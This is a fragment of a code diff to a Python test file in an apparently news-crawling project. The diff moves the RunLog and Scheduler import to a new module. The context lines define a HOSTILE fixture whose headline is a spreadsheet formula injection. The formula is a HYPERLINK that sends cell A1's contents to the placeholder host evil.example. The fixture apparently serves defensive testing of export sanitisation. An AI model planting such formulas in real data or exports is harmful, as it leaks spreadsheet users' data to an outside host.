@@ -13,7 +13,7 @@ import pytest
 from conftest import replay_crawl
 from test_scheduler import FakeScrapyd
 
-from newscrawl.tools.cli import RunLog, Scheduler
+from newscrawl.tools.scheduling import RunLog, Scheduler
 
 HOSTILE = {
     "headline": '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
